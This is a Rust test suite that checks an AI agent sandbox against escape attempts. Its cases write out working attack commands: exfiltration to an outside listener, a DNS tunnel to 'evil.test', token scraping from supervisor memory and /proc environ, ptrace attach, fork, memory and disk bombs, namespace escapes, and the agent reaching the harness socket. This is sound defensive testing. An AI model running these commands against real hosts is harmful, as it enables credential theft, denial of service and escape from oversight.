//! Programs inside a real sandbox: what they find, what they reach, and what they take.

use anyhow::{Result, ensure};
use serde_json::Value;

use crate::{
    case::{Case, Outcome, case},
    sandbox::{self, Setting},
    stack::Upstream,
};

pub(crate) const CASES: &[Case] = &[
    case!(
        5,
        "direct-way-out",
        [SandboxNetwork, Seccomp, Landlock],
        "a connection to somebody's own account",
        direct_way_out
    ),
    case!(
        5,
        "gateway-to-anywhere",
        [SandboxEgress],
        "the gateway's socket, asked for another name",
        gateway_to_anywhere
    ),
    case!(
        6,
        "dns-tunnel",
        [SandboxNetwork, Seccomp],
        "a question to a name server of one's own",
        dns_tunnel
    ),
    case!(
        40,
        "inherited-environment",
        [CleanStart],
        "the variables that the platform gave",
        inherited_environment
    ),
    case!(
        40,
        "supervisors-environment",
        [NonDumpable, Users, Landlock, NoCapabilities],
        "the supervisor's variables in /proc",
        supervisors_environment
    ),
    case!(
        41,
        "token-in-memory",
        [NonDumpable, Users, Landlock, NoCapabilities],
        "the run's token in the supervisor's memory",
        token_in_memory
    ),
    case!(
        41,
        "traced-supervisor",
        [NonDumpable, Users, Landlock, NoCapabilities, Seccomp],
        "the supervisor as a traced process",
        traced_supervisor
    ),
    case!(
        42,
        "identity-socket",
        [Users, Landlock, NoCapabilities],
        "the platform's socket, asked who we are",
        identity_socket
    ),
    case!(
        48,
        "endless-command",
        [WallClock],
        "a command without an end",
        endless_command
    ),
    case!(
        48,
        "endless-output",
        [OutputCap],
        "a command that never stops talking",
        endless_output
    ),
    case!(
        48,
        "fork-bomb",
        [Cgroups, ResourceLimits],
        "processes that make processes",
        fork_bomb
    ),
    case!(
        48,
        "memory-bomb",
        [Cgroups, ResourceLimits, UsageWatch],
        "a program that takes all memory",
        memory_bomb
    ),
    case!(
        48,
        "disk-bomb",
        [ResourceLimits, UsageWatch],
        "files that fill the volume",
        disk_bomb
    ),
    case!(
        48,
        "endless-machine",
        [SandboxTtl],
        "a sandbox that never ends",
        endless_machine
    ),
    case!(
        49,
        "socket-to-the-host",
        [Seccomp],
        "a socket that passes every network namespace",
        socket_to_the_host
    ),
    case!(
        49,
        "namespace-of-ones-own",
        [Seccomp],
        "a user namespace, in which one is root",
        own_namespace
    ),
    case!(
        51,
        "agent-at-the-socket",
        [SandboxPeer, Users, Landlock, NoCapabilities],
        "the harness's socket in the agent's hands",
        agent_at_the_socket
    ),
];

/// It succeeds if the command says `WON`.
async fn judged(setting: Setting) -> Result<Outcome> {
    if let Some(why) = sandbox::unavailable() {
        return Ok(Outcome::Skipped(why.to_owned()));
    }
    let told = sandbox::obeyed(&setting).await?;
    let answer: Value = serde_json::from_str(&told).unwrap_or(Value::Null);
    ensure!(
        !setting.order.as_agent || answer["stdout"].is_string() || told.starts_with("ENDED"),
        "the shell did nothing: {told}"
    );
    let printed = answer["stdout"].as_str().unwrap_or(&told);
    Ok(Outcome::of(printed.contains("WON"), told.trim()))
}

fn python(lines: &str) -> String {
    format!(
        "python3 - <<'END' 2>&1\nimport ctypes, os, re, socket, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n{lines}\nEND"
    )
}

async fn agent(command: &str) -> Result<Outcome> {
    judged(Setting::agent(command)).await
}

/// What the sandbox says of its success must be what the stranger saw.
fn agrees(outcome: Outcome, stranger: &Upstream) -> Result<Outcome> {
    let got = stranger.seen().len();
    ensure!(
        (got > 0) == matches!(outcome, Outcome::Succeeded(_)),
        "the stranger saw {got}"
    );
    Ok(outcome)
}

async fn direct_way_out() -> Result<Outcome> {
    let stranger = Upstream::start().await?;
    let at = stranger
        .url
        .trim_start_matches("http://")
        .replace(':', "', ");
    let outcome = agent(&python(&format!(
        "s = socket.create_connection(('{at}), 3)\n\
         s.sendall(b'GET /?d=everything HTTP/1.0\\r\\n\\r\\n'); s.recv(99); print('WON')"
    )))
    .await?;
    agrees(outcome, &stranger)
}

async fn gateway_to_anywhere() -> Result<Outcome> {
    let stranger = Upstream::start().await?;
    let host = stranger.url.trim_start_matches("http://");
    let outcome = judged(Setting::harness(&python(&format!(
        "s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('/run/gateway.sock')\n\
         s.sendall(b'GET /?d=everything HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n')\n\
         got = s.recv(99); print(got); print('WON' if b' 200 ' in got else '')"
    ))))
    .await?;
    agrees(outcome, &stranger)
}

async fn dns_tunnel() -> Result<Outcome> {
    let sink = tokio::net::UdpSocket::bind("127.0.0.1:0").await?;
    let port = sink.local_addr()?.port();
    let outcome = agent(&python(&format!(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.sendto(b'\\x00\\x01\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x06canary\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', {port}))\n\
         print('WON')"
    )))
    .await?;
    let mut packet = [0; 512];
    let got = sink.try_recv(&mut packet).is_ok();
    ensure!(
        got == matches!(outcome, Outcome::Succeeded(_)),
        "the sink saw a packet: {got}"
    );
    Ok(outcome)
}

async fn inherited_environment() -> Result<Outcome> {
    let mut setting = Setting::agent("env | grep -q CANARY && echo WON; env | cut -d= -f1");
    setting.env.push(("CANARY", "of the platform".to_owned()));
    judged(setting).await
}

async fn supervisors_environment() -> Result<Outcome> {
    agent("for p in /proc/[0-9]*; do grep -qz NIGHTSHIFT_SESSION= $p/environ && echo WON; done 2>&1 | sort -u").await
}

async fn token_in_memory() -> Result<Outcome> {
    agent(&python(
        "pid = os.getppid()\n\
         pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n\
         found = set()\n\
         with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:\n\
         \x20   for line in maps:\n\
         \x20       if ' rw' not in line: continue\n\
         \x20       low, high = (int(x, 16) for x in line.split()[0].split('-'))\n\
         \x20       try:\n\
         \x20           mem.seek(low); found |= set(re.findall(rb'eyJ[\\w-]{20,}\\.eyJ[\\w-]{40,}\\.[\\w-]{40,}', mem.read(high - low)))\n\
         \x20       except OSError: pass\n\
         print('WON' if found else 'nothing', len(found))",
    ))
    .await
}

async fn traced_supervisor() -> Result<Outcome> {
    agent(&python(
        "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n\
         shell = open(f'/proc/{os.getppid()}/stat').read().rsplit(')', 1)[1]\n\
         r = libc.ptrace(0x4206, int(shell.split()[1]), None, None)\n\
         print('WON' if r == 0 else os.strerror(ctypes.get_errno()))",
    ))
    .await
}

async fn identity_socket() -> Result<Outcome> {
    agent(&python(
        "s = socket.socket(socket.AF_UNIX); s.settimeout(3)\n\
         try: s.connect('/.fly/api'); print('WON')\n\
         except OSError as e: print(e)",
    ))
    .await
}

async fn endless_command() -> Result<Outcome> {
    let mut setting = Setting::agent("sleep 4; echo WON");
    setting.order.timeout_ms = 1_000;
    judged(setting).await
}

async fn endless_output() -> Result<Outcome> {
    agent("head -c 40000000 /dev/zero | tr '\\0' x; echo WON").await
}

async fn fork_bomb() -> Result<Outcome> {
    agent(&python(
        "n = 0\n\
         try:\n\
         \x20   while n < 700:\n\
         \x20       if os.fork() == 0:\n\
         \x20           time.sleep(20); os._exit(0)\n\
         \x20       n += 1\n\
         except OSError as e: print(e)\n\
         print(n, 'WON' if n == 700 else '', flush=True)",
    ))
    .await
}

/// Little, so that a bomb need not be large.
fn small(command: &str) -> Setting {
    let mut setting = Setting::agent(command);
    setting.env = vec![
        ("NIGHTSHIFT_AGENT_MEMORY_MB", "64".to_owned()),
        ("NIGHTSHIFT_AGENT_DISK_MB", "16".to_owned()),
    ];
    setting
}

async fn memory_bomb() -> Result<Outcome> {
    judged(small(&python(
        "kept = []\n\
         for step in range(30):\n\
         \x20   kept.append(bytearray(b'x') * (5 << 20)); time.sleep(0.03)\n\
         print('WON')",
    )))
    .await
}

async fn disk_bomb() -> Result<Outcome> {
    judged(small(&python(
        "for step in range(30):\n\
         \x20   with open(str(step), 'wb') as file:\n\
         \x20       file.write(b'x' * (2 << 20)); file.flush(); os.fsync(file.fileno())\n\
         \x20   time.sleep(0.05)\n\
         print('WON')",
    )))
    .await
}

async fn endless_machine() -> Result<Outcome> {
    let mut setting = Setting::harness("sleep 8; echo WON");
    setting.ttl_seconds = 5;
    judged(setting).await
}

async fn socket_to_the_host() -> Result<Outcome> {
    agent(&python(
        "socket.socket(40, socket.SOCK_STREAM); print('WON')",
    ))
    .await
}

async fn own_namespace() -> Result<Outcome> {
    agent("unshare --user true 2>&1 && echo WON").await
}

async fn agent_at_the_socket() -> Result<Outcome> {
    agent(&python(
        "s = socket.socket(socket.AF_UNIX); s.settimeout(3)\n\
         try:\n\
         \x20   s.connect('/run/nightshift/agent.sock')\n\
         \x20   s.sendall(b'GET /v1/messages HTTP/1.1\\r\\nHost: llm.nightshift.internal\\r\\n\\r\\n')\n\
         \x20   got = s.recv(99); print(got); print('WON' if got else '')\n\
         except OSError as e: print(e)",
    ))
    .await
}
